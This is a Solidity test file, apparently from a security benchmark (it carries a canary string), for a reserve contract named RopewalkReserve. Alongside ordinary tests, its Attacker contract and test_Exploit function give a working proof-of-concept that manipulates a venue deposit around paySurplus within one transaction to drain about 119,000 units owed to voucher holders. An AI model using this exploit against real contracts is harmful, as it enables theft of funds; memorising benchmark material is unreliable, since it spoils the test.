// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.24;

// assay-canary-24c897f3-0cfb-41c2-acf3-5efa860b1652

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "./RopewalkReserve.sol";

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 2_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// Uses the venue for the length of one transaction.
contract Attacker {
    function pass(RopewalkReserve reserve, Venue venue, Coin coin) external {
        uint256 amount = coin.balanceOf(address(this));
        coin.approve(address(venue), amount);
        venue.put(amount);
        reserve.paySurplus();
        venue.take(amount, address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant CURATOR = address(0xC04A704);
    address private constant ROPEWALK = address(0x40BE);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);

    Coin public coin;
    Venue public venue;
    RopewalkReserve public reserve;
    Attacker public visitor;

    function setUp() public {
        coin = new Coin();
        venue = new Venue(coin);
        reserve = new RopewalkReserve(venue, CURATOR, ROPEWALK);
        coin.approve(address(venue), type(uint256).max);
        _issue(ANNA, 150_000e6);
        _issue(BELA, 50_000e6);
        vm.prank(CURATOR);
        reserve.place(160_000e6);
        visitor = new Attacker();
        coin.transfer(address(visitor), 120_000e6);
    }

    function _issue(address who, uint256 amount) private {
        coin.transfer(who, amount);
        vm.startPrank(who);
        coin.approve(address(reserve), amount);
        reserve.issue(amount, who);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(reserve.idle() == 40_000e6 && reserve.placed() == 160_000e6 && reserve.surplus() == 0, "placed");
        venue.pay(8_000e6);
        require(reserve.surplus() == 8_000e6 && reserve.paySurplus() == 8_000e6, "interest");
        require(coin.balanceOf(ROPEWALK) == 8_000e6 && redeemable() == 200_000e6, "to the ropewalk");
        vm.prank(ANNA);
        reserve.redeem(30_000e6, ANNA);
        vm.prank(CURATOR);
        reserve.recall(20_000e6);
        require(reserve.idle() == 30_000e6 && reserve.placed() == 140_000e6, "recalled");
        vm.startPrank(ANNA);
        reserve.redeem(70_000e6, BELA);
        reserve.approve(BELA, 1e6);
        vm.stopPrank();
        require(coin.balanceOf(BELA) == 70_000e6 && reserve.idle() == 0 && reserve.placed() == 100_000e6, "from both");
        vm.prank(BELA);
        reserve.transferFrom(ANNA, BELA, 1e6);
        reserve.setRopewalk(CURATOR);
        venue.pay(100e6);
        reserve.paySurplus();
        require(coin.balanceOf(CURATOR) == 100e6 && redeemable() == 100_000e6, "another receiver");
        vm.prank(BELA);
        reserve.redeem(50_001e6, BELA);
        vm.startPrank(ANNA);
        reserve.transfer(BELA, 9_999e6);
        reserve.redeem(40_000e6, ANNA);
        vm.stopPrank();
        vm.prank(BELA);
        reserve.redeem(9_999e6, BELA);
        require(reserve.totalSupply() == 0 && venue.totalAssets() == 0, "all out");
        reserve.grantRole(reserve.CURATOR(), ANNA);
        reserve.revokeRole(reserve.CURATOR(), ANNA);
        reserve.renounceRole(bytes32(0), address(this));
    }

    function _lacks(address who, bytes32 role) private {
        vm.prank(who);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        bytes32 curator = reserve.CURATOR();
        _lacks(ANNA, curator);
        reserve.place(1);
        _lacks(ANNA, curator);
        reserve.recall(1);
        _lacks(CURATOR, bytes32(0));
        reserve.setRopewalk(CURATOR);
    }

    function test_RefusesAmounts() public {
        vm.expectRevert(abi.encodeWithSelector(RopewalkReserve.ZeroAmount.selector));
        reserve.issue(0, ANNA);
        vm.expectRevert(abi.encodeWithSelector(RopewalkReserve.ZeroAmount.selector));
        reserve.redeem(0, ANNA);
        vm.expectRevert(abi.encodeWithSelector(RopewalkReserve.ZeroAmount.selector));
        reserve.paySurplus();
        vm.startPrank(CURATOR);
        vm.expectRevert(abi.encodeWithSelector(RopewalkReserve.NotIdle.selector, 40_000e6 + 1, 40_000e6));
        reserve.place(40_000e6 + 1);
        vm.stopPrank();
        venue.pay(10_000e6);
        vm.prank(CURATOR);
        vm.expectRevert(abi.encodeWithSelector(RopewalkReserve.NotPlaced.selector, 160_000e6 + 1, 160_000e6));
        reserve.recall(160_000e6 + 1);
    }

    function test_RefusesSetups() public {
        vm.expectRevert(abi.encodeWithSelector(RopewalkReserve.ZeroAddress.selector));
        reserve.setRopewalk(address(0));
        vm.expectRevert(abi.encodeWithSelector(RopewalkReserve.ZeroAddress.selector));
        new RopewalkReserve(venue, CURATOR, address(0));
    }

    function test_RefusesVenue() public {
        vm.prank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(Venue.TooManyUnits.selector, 1, 0));
        venue.take(1, ANNA);
        Venue empty = new Venue(coin);
        vm.expectRevert(abi.encodeWithSelector(Venue.NothingThere.selector));
        empty.pay(1);
    }

    /// What the holders of vouchers can get.
    function redeemable() public view returns (uint256) {
        uint256 there = reserve.idle() + venue.assetsOf(address(reserve));
        uint256 vouchers = reserve.totalSupply();
        return there < vouchers ? there : vouchers;
    }

    function exploit() public {
        visitor.pass(reserve, venue, coin);
    }

    function test_Exploit() public {
        uint256 before = redeemable();
        exploit();
        require(redeemable() + 119_000e6 <= before, "nothing is missing");
    }

    function target() public view returns (address) {
        return address(reserve);
    }

    function attacker() public view returns (address) {
        return address(visitor);
    }
}
